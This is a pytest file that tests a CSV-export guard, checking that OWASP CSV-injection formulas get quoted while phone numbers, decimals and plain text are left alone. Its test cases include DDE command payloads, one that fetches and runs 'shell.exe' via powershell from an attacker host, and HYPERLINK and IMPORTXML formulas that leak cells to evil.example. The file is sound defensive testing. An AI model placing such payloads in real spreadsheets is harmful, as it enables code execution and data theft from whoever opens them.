"""The download's formula guard against the OWASP CSV-injection cases: formulas are quoted,
numbers never are."""

from __future__ import annotations

import pytest

from lc_ingest.domain import is_formula, neutralise


@pytest.mark.parametrize(
    "cell",
    [
        # OWASP "CSV Injection" payloads
        "=1+1",
        "=cmd|' /C calc'!A0",
        "=cmd|'/C powershell IEX(wget attacker/shell.exe)'!A0",
        "+cmd|' /C calc'!A0",
        "-cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        '=HYPERLINK("http://evil.example/?leak="&A1&A2, "Error: please click")',
        '=IMPORTXML(CONCAT("http://evil.example/?", A1), "//a")',
        '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "\tanything",  # a tab prefix is a formula prefix on its own
        "  =1+1",  # spreadsheets skip the leading spaces
        "+A1",
        "-A1",
        "+SUM(1;2)",
        "-2+3",
        "+1+1",
        "@A1",
        "\uff1d1+1",  # full-width equals
        "\uff0b1",
        "+61 2 9374 4000 =1",
    ],
)
def test_formulas_are_quoted(cell: str) -> None:
    assert is_formula(cell)
    assert neutralise(cell) == "'" + cell


@pytest.mark.parametrize(
    "cell",
    [
        "+61293744000",  # E.164, ours or the client's
        "+61 2 9374 4000",
        "+61-2-9374-4000",
        "+1 (650) 253-0000",
        "+44 (0)20 7946 0958",
        "-12",
        "-12.5",
        "+0.5",
        "0412 345 678",
        "(02) 9876 5432",
        "42",
        "José",
        "a=b",
        "O'Brien",
        "",
        "   ",
        "2026-03-02T10:00:01Z alpha 100/180/487",
    ],
)
def test_numbers_and_text_are_never_altered(cell: str) -> None:
    assert not is_formula(cell)
    assert neutralise(cell) == cell


@pytest.mark.parametrize("delimiter", [";", "\t", "|"])
def test_a_decimal_comma_is_a_number_where_the_delimiter_is_not_a_comma(delimiter: str) -> None:
    assert neutralise("-1,5", delimiter) == "-1,5"
    assert neutralise("-1,5+2", delimiter) == "'-1,5+2"


def test_with_a_comma_delimiter_a_comma_is_not_part_of_a_number() -> None:
    assert neutralise("-1,5", ",") == "'-1,5"
